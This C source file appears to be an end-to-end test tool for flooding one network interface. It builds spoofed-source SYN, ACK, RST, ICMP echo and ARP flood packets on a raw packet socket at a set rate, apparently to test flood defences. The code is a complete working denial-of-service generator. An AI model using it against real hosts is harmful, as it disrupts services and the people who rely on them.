/* SPDX-License-Identifier: BSD-3-Clause */
/* flood: sends the packets of an attacker into one interface, at a rate.
 *
 * usage     flood -k KIND -i INTERFACE -m MAC -d ADDRESS [-p PORT] [-s PREFIX/BITS]
 *           [-P SOURCE-PORT] [-r PER-SECOND] [-t SECONDS]
 * Sources   each packet has a random source in the prefix, and random ports and numbers.
 * Rate      0: as fast as possible. After a time without CPU the program catches up for BURST
 *           packets at most, because the queue of the interface would overflow.
 * Ends      after -t seconds, or at SIGTERM or SIGINT. Then it prints how many packets the
 *           interface took.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH       64
#define BURST       256
#define FRAME_BYTES 128
#define NS_PER_S    1000000000ull
#define STEP_NS     1000000 /* between two batches */
#define MSS         1460

enum { IP_AT = 14, L4_AT = IP_AT + 20, OPTIONS_AT = L4_AT + 20 };

enum form {
	FORM_TCP,
	FORM_ECHO,
	FORM_ARP,
	FORM_MIX, /* a random kind among those before it */
};

static const struct kind {
	const char *name;
	enum form form;
	uint8_t flags;
	bool offer;    /* the SYN has the options of Linux */
	uint8_t text;  /* bytes of text */
	bool sum_off;  /* the checksum is wrong */
	bool offset_0; /* the data offset is 0 */
} kinds[] = {
        {.name = "syn", .flags = TH_SYN, .offer = true},
        {.name = "syn-bare", .flags = TH_SYN},
        {.name = "syn-ack", .flags = TH_SYN | TH_ACK, .offer = true},
        {.name = "ack", .flags = TH_ACK},
        {.name = "rst", .flags = TH_RST},
        {.name = "fin", .flags = TH_FIN | TH_ACK},
        {.name = "data", .flags = TH_PUSH | TH_ACK, .text = 40},
        {.name = "checksum", .flags = TH_SYN, .sum_off = true},
        {.name = "offset", .flags = TH_SYN, .offset_0 = true},
        {.name = "echo", .form = FORM_ECHO},
        {.name = "arp", .form = FORM_ARP},
        {.name = "mix", .form = FORM_MIX},
        {.name = NULL},
};

struct attack {
	const struct kind *kind;
	const char *interface;
	uint8_t mac[ETH_ALEN]; /* the MAC address of the victim */
	uint8_t own_mac[ETH_ALEN];
	struct in_addr target;
	uint16_t port;
	uint16_t own_port; /* 0: random */
	uint32_t prefix;   /* host order */
	uint32_t prefix_mask;
	uint64_t per_s;
	uint64_t seconds;
	uint64_t random;
	int fd;
};

static volatile sig_atomic_t ended;

static void
on_signal(int number)
{
	(void)number;
	ended = 1;
}

static uint64_t
now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * NS_PER_S + (uint64_t)t.tv_nsec;
}

/* Xorshift64*: by Marsaglia and Vigna. */
static uint32_t
draw(struct attack *a)
{
	a->random ^= a->random >> 12;
	a->random ^= a->random << 25;
	a->random ^= a->random >> 27;
	return (uint32_t)(a->random * 0x2545f4914f6cdd1dull >> 32);
}

static void
put16(uint8_t *at, unsigned value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void
put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value & 0xffff);
}

static uint32_t
sum16(const uint8_t *at, unsigned bytes, uint32_t sum)
{
	for (unsigned i = 0; i + 1 < bytes; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t
folded(uint32_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t
draw_source(struct attack *a)
{
	return a->prefix | (draw(a) & ~a->prefix_mask);
}

static void
put_ethernet(uint8_t *frame, const struct attack *a, uint16_t type)
{
	memcpy(frame, a->mac, ETH_ALEN);
	memcpy(frame + ETH_ALEN, a->own_mac, ETH_ALEN);
	put16(frame + 12, type);
}

static void
put_ip(uint8_t *frame, struct attack *a, uint8_t protocol, unsigned payload)
{
	uint8_t *ip = frame + IP_AT;

	put_ethernet(frame, a, ETHERTYPE_IP);
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, 20 + payload);
	put16(ip + 4, draw(a) & 0xffff);
	ip[8] = 64;
	ip[9] = protocol;
	put32(ip + 12, draw_source(a));
	memcpy(ip + 16, &a->target, 4);
	put16(ip + 10, folded(sum16(ip, 20, 0)));
}

/* MSS, SACK permitted, timestamps, NOP, window scale. */
static unsigned
put_options(uint8_t *at, struct attack *a)
{
	static const uint8_t linux_like[20] = {
	        2, 4, MSS >> 8, MSS & 0xff, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};

	memcpy(at, linux_like, sizeof(linux_like));
	put32(at + 8, draw(a));
	return sizeof(linux_like);
}

static unsigned
put_tcp(uint8_t *frame, struct attack *a, const struct kind *k)
{
	uint8_t *tcp = frame + L4_AT;
	unsigned options = k->offer ? put_options(frame + OPTIONS_AT, a) : 0;
	unsigned bytes = 20 + options + k->text;

	put_ip(frame, a, IPPROTO_TCP, bytes);
	put16(tcp, a->own_port != 0 ? a->own_port : 1024 + draw(a) % (65536 - 1024));
	put16(tcp + 2, a->port);
	put32(tcp + 4, draw(a));
	put32(tcp + 8, k->flags & TH_ACK ? draw(a) : 0);
	tcp[12] = k->offset_0 ? 0 : (uint8_t)((20 + options) / 4 << 4);
	tcp[13] = k->flags;
	put16(tcp + 14, 64240);
	put32(tcp + 16, 0); /* checksum, urgent pointer */
	memset(tcp + 20 + options, 'x', k->text);
	put16(tcp + 16, folded(sum16(tcp, bytes, sum16(frame + IP_AT + 12, 8, 6 + bytes))));
	tcp[16] ^= k->sum_off;
	return L4_AT + bytes;
}

static unsigned
put_echo(uint8_t *frame, struct attack *a)
{
	uint8_t *icmp = frame + L4_AT;
	const unsigned bytes = 64;

	put_ip(frame, a, IPPROTO_ICMP, bytes);
	memset(icmp, 0, bytes);
	icmp[0] = 8;
	put32(icmp + 4, draw(a));
	put16(icmp + 2, folded(sum16(icmp, bytes, 0)));
	return L4_AT + bytes;
}

/* An ARP request for the victim's address. Each one claims another host and another MAC. */
static unsigned
put_arp(uint8_t *frame, struct attack *a)
{
	static const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 1};
	uint8_t *arp = frame + IP_AT;

	put_ethernet(frame, a, ETHERTYPE_ARP);
	memset(frame, 0xff, ETH_ALEN);
	memcpy(arp, head, sizeof(head));
	put16(arp + 8, 0x0200);
	put32(arp + 10, draw(a));
	memcpy(frame + ETH_ALEN, arp + 8, ETH_ALEN);
	put32(arp + 14, draw_source(a));
	memset(arp + 18, 0, ETH_ALEN);
	memcpy(arp + 24, &a->target, 4);
	return IP_AT + 28;
}

/* Writes a frame of the kind; returns its length. */
static unsigned
put_frame(uint8_t *frame, struct attack *a)
{
	const struct kind *k = a->kind;

	if (k->form == FORM_MIX)
		k = &kinds[draw(a) % (unsigned)(a->kind - kinds)];
	switch (k->form) {
	case FORM_TCP:
		return put_tcp(frame, a, k);
	case FORM_ECHO:
		return put_echo(frame, a);
	case FORM_ARP:
		return put_arp(frame, a);
	case FORM_MIX:
		break;
	}
	abort();
}

/* Sends n frames; returns how many the interface took. */
static unsigned
send_frames(struct attack *a, unsigned n)
{
	uint8_t frame[BATCH][FRAME_BYTES];
	struct iovec part[BATCH];
	struct mmsghdr message[BATCH];
	int sent;

	memset(message, 0, sizeof(message));
	for (unsigned i = 0; i < n; i++) {
		part[i] = (struct iovec) {frame[i], put_frame(frame[i], a)};
		message[i].msg_hdr.msg_iov = &part[i];
		message[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(a->fd, message, n, 0);
	if (sent >= 0)
		return (unsigned)sent;
	if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) /* the queue is full */
		return 0;
	perror("flood: sendmmsg (is the interface up?)");
	exit(1);
}

static void
sleep_until(uint64_t ns)
{
	struct timespec t = {(time_t)(ns / NS_PER_S), (long)(ns % NS_PER_S)};

	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

/* The number of packets that are due, limited to BURST. */
static uint64_t
due(const struct attack *a, uint64_t passed_ns, uint64_t *from)
{
	uint64_t upto = a->per_s * passed_ns / NS_PER_S;

	if (upto - *from > BURST)
		*from = upto - BURST;
	return upto - *from;
}

static uint64_t
run(struct attack *a)
{
	const uint64_t start = now_ns(), length = a->seconds * NS_PER_S;
	uint64_t sent = 0, dealt = 0;

	for (uint64_t now = start; !ended && now - start < length; now = now_ns()) {
		uint64_t want = a->per_s == 0 ? BATCH : due(a, now - start, &dealt);

		for (uint64_t n; want > 0; want -= n) {
			n = want < BATCH ? want : BATCH;
			sent += send_frames(a, (unsigned)n);
			dealt += n;
		}
		if (a->per_s != 0)
			sleep_until(now + STEP_NS);
	}
	return sent;
}

static void
fail(const char *what, const char *value)
{
	fprintf(stderr, "flood: %s: %s (see the head of tests/e2e/flood.c)\n", what, value);
	exit(2);
}

static void
open_interface(struct attack *a)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	socklen_t bytes = sizeof(to);
	int on = 1;

	to.sll_ifindex = (int)if_nametoindex(a->interface);
	if (to.sll_ifindex == 0)
		fail("the interface does not exist", a->interface);
	a->fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (a->fd < 0 || bind(a->fd, (struct sockaddr *)&to, sizeof(to)) != 0 ||
	        getsockname(a->fd, (struct sockaddr *)&to, &bytes) != 0)
		fail("a packet socket cannot be opened (needs root)", strerror(errno));
	setsockopt(a->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	memcpy(a->own_mac, to.sll_addr, ETH_ALEN);
}

static void
read_kind(struct attack *a, const char *name)
{
	for (a->kind = kinds; a->kind->name != NULL; a->kind++)
		if (strcmp(a->kind->name, name) == 0)
			return;
	fail("the kind does not exist", name);
}

static void
read_mac(struct attack *a, const char *text)
{
	uint8_t *m = a->mac;

	if (sscanf(text, "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx", m, m + 1, m + 2, m + 3, m + 4,
	            m + 5) != ETH_ALEN)
		fail("not a MAC", text);
}

static void
read_address(struct in_addr *out, const char *text)
{
	if (inet_pton(AF_INET, text, out) != 1)
		fail("not an address", text);
}

static void
read_prefix(struct attack *a, char *text)
{
	char *slash = strchr(text, '/');
	unsigned bits = slash != NULL ? (unsigned)atoi(slash + 1) : 32;
	struct in_addr address;

	if (slash != NULL)
		*slash = '\0';
	read_address(&address, text);
	if (bits > 32)
		fail("not a prefix", text);
	a->prefix_mask = bits == 0 ? 0 : UINT32_MAX << (32 - bits);
	a->prefix = ntohl(address.s_addr) & a->prefix_mask;
}

static void
read_arguments(struct attack *a, int argc, char **argv)
{
	for (int c; (c = getopt(argc, argv, "k:i:m:d:p:s:P:r:t:")) != -1;) {
		switch (c) {
		case 'k':
			read_kind(a, optarg);
			break;
		case 'i':
			a->interface = optarg;
			break;
		case 'm':
			read_mac(a, optarg);
			break;
		case 'd':
			read_address(&a->target, optarg);
			break;
		case 'p':
			a->port = (uint16_t)atoi(optarg);
			break;
		case 's':
			read_prefix(a, optarg);
			break;
		case 'P':
			a->own_port = (uint16_t)atoi(optarg);
			break;
		case 'r':
			a->per_s = strtoull(optarg, NULL, 10);
			break;
		case 't':
			a->seconds = strtoull(optarg, NULL, 10);
			break;
		default:
			exit(2);
		}
	}
	if (a->kind == NULL || a->interface == NULL || a->target.s_addr == 0)
		fail("missing", "-k, -i or -d");
}

int
main(int argc, char **argv)
{
	static const struct sigaction end = {.sa_handler = on_signal};
	struct attack a = {.port = 80, .seconds = 10, .random = now_ns()};
	char anywhere[] = "198.18.0.0/15"; /* no host has an address in it (RFC 2544) */
	uint64_t start, sent;

	read_prefix(&a, anywhere);
	read_arguments(&a, argc, argv);
	open_interface(&a);
	sigaction(SIGTERM, &end, NULL);
	sigaction(SIGINT, &end, NULL);
	start = now_ns();
	sent = run(&a);
	printf("%llu packets in %.3f s\n", (unsigned long long)sent,
	        (double)(now_ns() - start) / (double)NS_PER_S);
	return 0;
}
